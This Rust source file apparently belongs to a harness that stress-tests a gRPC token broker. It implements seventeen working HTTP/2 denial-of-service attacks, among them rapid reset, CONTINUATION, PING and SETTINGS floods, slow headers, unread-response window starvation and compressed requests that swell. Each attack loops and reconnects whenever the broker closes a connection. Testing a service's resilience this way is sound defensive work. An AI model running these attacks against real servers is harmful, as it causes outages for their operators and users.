//! The attacks. Each goes on until it is dropped, and connects again whenever the broker closes a connection.

use std::{future::Future, io, net::SocketAddr, pin::Pin, time::Duration};

use tokio::{task::JoinSet, time::sleep};

use crate::{
    raw::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE,
        RST_STREAM, Raw, SETTINGS, broker_path, frame, header, headers, in_grpc,
    },
    target::{FULL, get, get_all},
};

type Running = Pin<Box<dyn Future<Output = ()> + Send>>;

/// An attack: its name, and what it does to the broker at an address.
pub type Attack = (&'static str, fn(SocketAddr) -> Running);

pub const ALL: &[Attack] = &[
    ("answers nobody reads, no window", |a| {
        again(move || unread(a, 0))
    }),
    ("answers nobody reads, window of a byte", |a| {
        again(move || unread(a, 1))
    }),
    ("answers nobody reads, full sockets", |a| {
        again(move || unread(a, u32::MAX >> 1))
    }),
    ("small answers nobody reads", |a| {
        again(move || small_unread(a))
    }),
    ("half-sent requests", |a| several(2, move || half_sent(a))),
    ("compressed requests that swell", |a| {
        again(move || swelling(a))
    }),
    ("large reads that are given up", |a| {
        again(move || given_up(a))
    }),
    ("rapid reset", |a| again(move || rapid_reset(a))),
    ("CONTINUATION flood", |a| {
        again(move || continuation_flood(a))
    }),
    ("PING flood, answers unread", |a| {
        again(move || ping_flood(a))
    }),
    ("SETTINGS flood, answers unread", |a| {
        again(move || settings_flood(a))
    }),
    ("empty DATA frames", |a| again(move || empty_data(a))),
    ("many idle streams", |a| several(8, move || idle_streams(a))),
    ("many watches", |a| several(8, move || watches(a))),
    ("reflection that isn't read", |a| {
        several(4, move || reflection(a))
    }),
    ("slow headers", |a| several(100, move || slow_headers(a))),
    ("slow beginnings", |a| {
        several(100, move || slow_beginning(a))
    }),
];

/// Repeats what ends when the broker closes the connection.
fn again<F>(mut attack: impl FnMut() -> F + Send + 'static) -> Running
where
    F: Future<Output = io::Result<()>> + Send,
{
    Box::pin(async move {
        loop {
            attack().await.ok();
            sleep(Duration::from_millis(20)).await;
        }
    })
}

/// Does the same on several connections.
fn several<F>(count: usize, attack: impl Fn() -> F + Clone + Send + 'static) -> Running
where
    F: Future<Output = io::Result<()>> + Send + 'static,
{
    Box::pin(async move {
        let attacks: JoinSet<()> = (0..count).map(|_| again(attack.clone())).collect();
        attacks.join_all().await;
    })
}

/// Waits until the broker closes a connection that reads.
async fn closed(raw: &Raw) {
    while !raw.is_closed() {
        sleep(Duration::from_millis(50)).await;
    }
}

/// Asks for 200 full sessions, and gives the broker a `window` to answer.
async fn unread(address: SocketAddr, window: u32) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[(INITIAL_WINDOW_SIZE, window)]).await?;
    for _ in 0..200 {
        raw.call("GetAll", &get_all(FULL)).await?;
    }
    if window > 1 {
        // The connection isn't read at all.
        return std::future::pending().await;
    }
    closed(&raw.reading()).await;
    Ok(())
}

/// Asks for single large rows, and lets the broker send a byte of each.
async fn small_unread(address: SocketAddr) -> io::Result<()> {
    let raw = Raw::connect(address, &[(INITIAL_WINDOW_SIZE, 1)]).await?;
    let mut raw = raw.reading();
    while !raw.is_closed() {
        for _ in 0..20 {
            raw.call("Get", &get(FULL, "p1")).await?;
        }
        sleep(Duration::from_millis(20)).await;
    }
    Ok(())
}

/// Sends most of 200 large requests, and then nothing.
async fn half_sent(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[]).await?.reading();
    for _ in 0..200 {
        let stream = raw.open(&broker_path("Store")).await?;
        let mut begun = vec![0];
        begun.extend(200_000_u32.to_be_bytes());
        raw.frame(DATA, 0, stream, &begun).await?;
        // The broker's window for the connection is never exceeded: it grants more as it reads.
        for _ in 0..10 {
            raw.frame(DATA, 0, stream, &[0; 16_000]).await?;
            sleep(Duration::from_millis(1)).await;
        }
        if raw.is_closed() {
            return Ok(());
        }
    }
    closed(&raw).await;
    Ok(())
}

/// Sends requests of a few hundred bytes that become as large as a request may be.
async fn swelling(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[]).await?.reading();
    let mut block = headers(&broker_path("Store"));
    block.extend(header("grpc-encoding", "gzip"));
    let packed = crate::requests::swelling(250_000);
    for stream in (1..).step_by(2) {
        raw.frame(HEADERS, END_HEADERS, stream, &block).await?;
        // The last byte is missing, or else it would be answered.
        let most = &packed[..packed.len() - 1];
        raw.frame(DATA, 0, stream, most).await?;
        raw.frame(DATA, END_STREAM, stream, &packed[packed.len() - 1..])
            .await?;
        sleep(Duration::from_millis(20)).await;
        if raw.is_closed() {
            return Ok(());
        }
    }
    Ok(())
}

/// Asks for 320 full sessions a second, and resets each stream at once.
async fn given_up(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[]).await?.reading();
    while !raw.is_closed() {
        let stream = raw.call("GetAll", &get_all(FULL)).await?;
        // Long enough for the broker to begin, and much shorter than the answer takes.
        sleep(Duration::from_millis(2)).await;
        raw.frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
            .await?;
        sleep(Duration::from_millis(1)).await;
    }
    Ok(())
}

/// Opens streams and resets them, many in one packet.
async fn rapid_reset(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[]).await?.reading();
    let block = headers(&broker_path("Get"));
    let mut stream = 1;
    while !raw.is_closed() {
        let mut burst = Vec::new();
        for _ in 0..100 {
            burst.extend(frame(HEADERS, END_HEADERS, stream, &block));
            burst.extend(frame(DATA, END_STREAM, stream, &in_grpc(&get(FULL, "p1"))));
            burst.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            stream += 2;
        }
        raw.bytes(&burst).await?;
        sleep(Duration::from_millis(10)).await;
    }
    Ok(())
}

/// Sends headers that never end.
async fn continuation_flood(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[]).await?.reading();
    raw.frame(HEADERS, 0, 1, &headers(&broker_path("Get")))
        .await?;
    let mut burst = Vec::new();
    for number in 0..20 {
        let more = header(&format!("x-{number}"), &"x".repeat(100));
        burst.extend(frame(CONTINUATION, 0, 1, &more.repeat(8)));
    }
    while !raw.is_closed() {
        raw.bytes(&burst).await?;
        sleep(Duration::from_millis(5)).await;
    }
    Ok(())
}

/// Sends pings and reads no answer.
async fn ping_flood(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[]).await?;
    let burst = frame(PING, 0, 0, &[7; 8]).repeat(100);
    loop {
        raw.bytes(&burst).await?;
        sleep(Duration::from_millis(5)).await;
    }
}

/// Sends settings and reads no answer.
async fn settings_flood(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[]).await?;
    let mut setting = INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
    setting.extend(70_000_u32.to_be_bytes());
    let burst = frame(SETTINGS, 0, 0, &setting).repeat(100);
    loop {
        raw.bytes(&burst).await?;
        sleep(Duration::from_millis(5)).await;
    }
}

/// Sends frames without data, which no window bounds.
async fn empty_data(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[]).await?.reading();
    let stream = raw.open(&broker_path("Store")).await?;
    let burst = frame(DATA, 0, stream, &[]).repeat(200);
    while !raw.is_closed() {
        raw.bytes(&burst).await?;
        sleep(Duration::from_millis(5)).await;
    }
    Ok(())
}

/// Opens as many streams as possible, and sends no request on them.
async fn idle_streams(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[]).await?.reading();
    for _ in 0..1_000 {
        raw.open(&broker_path("Get")).await?;
        sleep(Duration::from_millis(5)).await;
    }
    closed(&raw).await;
    Ok(())
}

/// Watches the health as often as possible.
async fn watches(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[(INITIAL_WINDOW_SIZE, 0)])
        .await?
        .reading();
    for _ in 0..1_000 {
        let stream = raw.open("/grpc.health.v1.Health/Watch").await?;
        raw.frame(DATA, END_STREAM, stream, &[0; 5]).await?;
        sleep(Duration::from_millis(5)).await;
    }
    closed(&raw).await;
    Ok(())
}

/// Asks reflection for large answers, again and again, and reads none.
async fn reflection(address: SocketAddr) -> io::Result<()> {
    const PATH: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
    let mut raw = Raw::connect(address, &[(INITIAL_WINDOW_SIZE, 0)])
        .await?
        .reading();
    let name = b"tokenbroker.v1.TokenBroker";
    // The field `file_containing_symbol`.
    let mut message = vec![0, 0, 0, 0, 28, 0x22, 26];
    message.extend(name);
    for _ in 0..100 {
        let stream = raw.open(PATH).await?;
        for _ in 0..20 {
            raw.frame(DATA, 0, stream, &message).await?;
        }
    }
    closed(&raw).await;
    Ok(())
}

/// Sends headers byte by byte.
async fn slow_headers(address: SocketAddr) -> io::Result<()> {
    let mut raw = Raw::connect(address, &[]).await?.reading();
    let block = headers(&broker_path("Get"));
    for byte in frame(HEADERS, END_HEADERS, 1, &block) {
        if raw.is_closed() {
            return Ok(());
        }
        raw.bytes(&[byte]).await?;
        sleep(Duration::from_millis(300)).await;
    }
    Ok(())
}

/// Sends the first bytes of HTTP/2 one by one.
async fn slow_beginning(address: SocketAddr) -> io::Result<()> {
    let mut stream = tokio::net::TcpStream::connect(address).await?;
    for byte in PREFACE {
        tokio::io::AsyncWriteExt::write_all(&mut stream, &[*byte]).await?;
        sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

/// Returns the attack with this name.
pub fn named(name: &str) -> Attack {
    *ALL.iter().find(|(known, _)| *known == name).unwrap()
}
